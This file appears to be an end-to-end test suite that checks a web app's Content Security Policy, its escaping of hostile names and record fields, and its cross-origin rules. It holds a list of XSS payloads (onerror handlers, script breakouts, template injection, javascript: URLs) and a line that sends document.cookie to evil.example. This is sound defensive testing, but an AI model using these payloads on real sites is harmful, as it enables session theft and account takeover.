"""What a browser makes of it: the policy of the pages, hostile names, and pages of other origins."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import requests
from playwright.sync_api import expect

from record_presence.presence.validation import clean_name
from tests.e2e.server import Server
from tests.redis_server import RedisServer
from tests.waiting import START_SECONDS, TIMEOUT_MS, wait_until

SET_A_MARK = "window.ranSomethingOfOthers=1"
# What every object of JavaScript answers to: as the name of a field, it must not.
INHERITED = ["toString", "constructor", "__proto__", "hasOwnProperty"]
HOSTILE = [
    f'<img src="x" onerror="{SET_A_MARK}">',
    f"</script><script>{SET_A_MARK}</script>",
    f"\"' x-init='{SET_A_MARK}' onfocus='{SET_A_MARK}' autofocus tabindex=0",
    f'<b x-data x-init="{SET_A_MARK}"></b>',
    f"{{{{ constructor.constructor('{SET_A_MARK}')() }}}}${{{SET_A_MARK}}}",
    f"javascript:{SET_A_MARK}//",
    f'<a href="javascript:{SET_A_MARK}">Alice Moreau</a><style>*{{display:none}}</style>',
    "\u202e\u2066Alice Moreau\u2069",
    *INHERITED,
]
NAMES = {clean_name(name) for name in HOSTILE}  # as they are shown
INJECTED = "img[src=x], b[x-init], script:not([src]), body style"


@pytest.fixture
def bob(person):
    """Whatever the policy refuses is among Bob's errors, and fails the test."""
    return person("bob")


def test_policy_refuses_nothing_that_a_page_needs(bob, flow_id):
    for path in ("/", "/sign-in", "/api/docs", "/flows/999", f"/flows/{flow_id}", f"/react/flows/{flow_id}"):
        page = bob.go(path)
        page.tab.wait_for_load_state("load")
        if str(flow_id) in path:
            page.wait_for_presence()
            page.tab.get_by_label("Name", exact=True).fill(f"Renamed in {path}")
        page.tab.get_by_role("link", name="API").first.focus()

        assert bob.errors == [], path
        page.tab.close()


def test_policy_refuses_what_an_attacker_would_put_in(bob):
    page = bob.go("/")
    for trick in (
        "const s = document.createElement('script'); s.textContent = '{}'; document.body.append(s)",
        "document.body.setAttribute('onclick', '{}'); document.body.click()",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\">')",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/{}\">')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/\"></iframe>')",
        "fetch('https://evil.example/?' + document.cookie).catch(() => 0)",
        "setTimeout('{}')",
    ):
        before = len(bob.errors)
        page.tab.evaluate(f"() => {{ {trick.format(SET_A_MARK)} }}")
        wait_until(lambda page=page, before=before: page.tab.title() and len(bob.errors) > before)

    assert page.tab.evaluate("window.ranSomethingOfOthers") is None
    assert all("Content Security Policy" in error for error in bob.errors)
    bob.errors.clear()


@pytest.fixture(scope="module")
def quarrel_server():
    """Heartbeats a minute apart: what happens once stays. Its saves and claims are nobody else's."""
    redis = RedisServer()
    server = Server(redis, PRESENCE_HEARTBEAT_SECONDS="60", PRESENCE_TTL_SECONDS="3600")
    yield server
    server.close()
    redis.close()


def test_hostile_names_are_names_and_nothing_else(person, quarrel_server):
    bob, flow_id = person("bob", at=quarrel_server), 1
    for number, name in enumerate(HOSTILE):
        with quarrel_server.as_user(900 + number, name) as user:
            user.beat(flow_id, f"hostile-{number}", mode="edit", active_field="name")
            field = name if name.isprintable() else None
            user.beat(flow_id, f"hostile-{number}-2", dirty=True, active_field=field)

    def shown(page, where):
        return set(page.tab.locator(where).all_text_contents())

    for path in ("/", f"/flows/{flow_id}", f"/react/flows/{flow_id}"):
        page = bob.go(path)
        if path == "/":
            labels = wait_until(lambda page=page: page.row(flow_id))
            assert labels[0].startswith(HOSTILE[0])
        else:
            page.tab.get_by_role("button", name="Show all").click()
            wait_until(lambda page=page: shown(page, ".here-name"), lambda names: names >= NAMES)
            wait_until(lambda page=page: shown(page, "#name-people bdi"), set(HOSTILE).intersection)

        assert page.tab.evaluate("window.ranSomethingOfOthers") is None
        expect(page.tab.locator(INJECTED)).to_have_count(0)
        assert bob.errors == []
        page.tab.close()


def test_hostile_record_is_text_wherever_it_is_shown(bob, server, flow_id):
    name = "".join(HOSTILE[:3])[:120]
    token = requests.get(f"{server.url}/demo/people/alice/token", timeout=START_SECONDS).json()["data"][
        "token"
    ]
    url, headers = f"{server.url}/api/v1/flows/{flow_id}", {"Authorization": f"Bearer {token}"}
    flow = requests.get(url, headers=headers, timeout=START_SECONDS).json()["data"]["flow"]
    values = {
        **{field: flow[field] for field in ("lock_version", "status", "owner")},
        "name": name,
        "description": "".join(HOSTILE),
        "steps": "\n".join(HOSTILE),
    }
    requests.put(url, json=values, headers=headers, timeout=START_SECONDS).raise_for_status()

    for path in ("/", f"/flows/{flow_id}", f"/react/flows/{flow_id}"):
        page = bob.go(path)
        page.tab.get_by_text(name[:60]).first.wait_for()

        assert page.tab.evaluate("window.ranSomethingOfOthers") is None
        expect(page.tab.locator(INJECTED)).to_have_count(0)
        assert bob.errors == []
        page.tab.close()
    flow = requests.get(url, headers=headers, timeout=START_SECONDS).json()["data"]["flow"]
    back = {**values, "lock_version": flow["lock_version"], "name": f"Flow {flow_id}"}
    requests.put(url, json=back, headers=headers, timeout=START_SECONDS).raise_for_status()


def test_hostile_fields_claims_and_saves_break_no_page(person, quarrel_server):
    bob = person("bob", at=quarrel_server)

    def provoke():
        for number, name in enumerate(HOSTILE):
            with quarrel_server.as_user(900 + number, name) as user:
                tab, field = f"hostile-{number}", name if name.isprintable() else "name"
                fields = {"active_field": field, "dirty_fields": [field, "name"]}
                user.beat(2, tab, mode="edit", dirty=True, **fields)
                is_last = name == HOSTILE[-1]  # a field is taken over once in five seconds
                user.tell(2, "claim", tab, field=field)
                user.tell(2, "signal", tab, kind="typing", data={"field": field})
                user.tell(2, "signal", tab, kind="cursor", data={"field": field, "x": 0.5, "y": 0.5})
                user.save(2, name=f"{number} {name}"[:120], steps=name)
                user.tell(2, "saved", tab, lock_version=1000 + number, fields=[field])
                user.beat(2, f"{tab}-2", mode="edit", active_field="name")
                user.tell(2, "claim", f"{tab}-2", field="name", take_over=is_last)

    def assert_is_whole(page, path):
        assert page.evaluate("window.ranSomethingOfOthers") is None
        expect(page.locator(INJECTED)).to_have_count(0)
        assert bob.errors == [], path

    paths = ("/flows/2", "/react/flows/2", "/flows/2/timeline", "/flows/2/why")
    pages = {path: bob.go(path).tab for path in paths}
    for page in (pages["/flows/2"], pages["/react/flows/2"]):
        page.locator(".claim-button").first.wait_for()
        page.fill("#name", "Bob's own")
    provoke()
    last = HOSTILE[-1]
    for path, page in pages.items():
        if path in paths[:2]:
            page.locator("#conflict h2", has_text=last).wait_for()
            page.get_by_role("button", name="Show all").click()
            page.locator(".here-name", has_text=last).wait_for()
            page.locator("#name-people .is-more").wait_for()
            page.locator(".field:has(#name) .claim-who", has_text=last).wait_for()
            page.get_by_role("button", name="Compare field by field").click()
            page.locator("dialog .record-conflict-value").nth(1).wait_for()
            page.keyboard.press("Escape")
            expect(page.locator("#name")).to_have_value("Bob's own")
        elif path.endswith("timeline"):
            wait_until(page.locator(".log-row").count, lambda count: count > 3 * len(HOSTILE))
            page.locator(".log-row.is-conflict button").last.click()
        else:
            wait_until(page.locator(".why-tab").count, lambda count: count >= 2 * len(HOSTILE))
        assert_is_whole(page, path)
        page.reload()  # and from the start
        page.locator(".here-person, .log-row, .why-tab").nth(7).wait_for()
        assert_is_whole(page, path)


# Pages of other origins

CALL = """async ([url, token]) => {
  try {
    const response = await fetch(url, {
      method: 'POST',
      credentials: 'include',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
      body: JSON.stringify({ tab_id: 'cors', mode: 'view', dirty: false }),
    });
    return (await response.json()).data.registered;
  } catch (error) {
    return error.name;
  }
}"""
IMPORT = "(url) => import(url).then((client) => typeof client.createPresence, (error) => error.name)"


@pytest.fixture
def elsewhere():
    """A server of empty pages: its port."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as pages:
        threading.Thread(target=pages.serve_forever, daemon=True).start()
        yield pages.server_port
        pages.shutdown()


@pytest.fixture
def stranger(browser):
    """A browser that knows nothing of us."""
    context = browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    yield context
    context.close()


def test_page_of_an_origin_that_is_named_calls_and_any_other_does_not(redis_server, stranger, elsewhere):
    # Not intercepted by the browser's tools: it takes such pages for public ones, which may not call here.
    named, other = f"http://localhost:{elsewhere}", f"http://127.0.0.1:{elsewhere}"
    server = Server(redis_server, PRESENCE_CORS_ORIGINS=named)
    try:
        token = requests.get(f"{server.url}/demo/people/alice/token", timeout=START_SECONDS).json()["data"][
            "token"
        ]
        page = stranger.new_page()
        answers = {}
        for origin in (named, other):
            page.goto(f"{origin}/")
            answers[origin] = (
                page.evaluate(CALL, [f"{server.url}/api/v1/presence/flow/1/heartbeat", token]),
                page.evaluate(IMPORT, f"{server.url}/static/presence/presence.js"),
            )
    finally:
        server.close()

    assert answers == {named: (True, "function"), other: ("TypeError", "TypeError")}
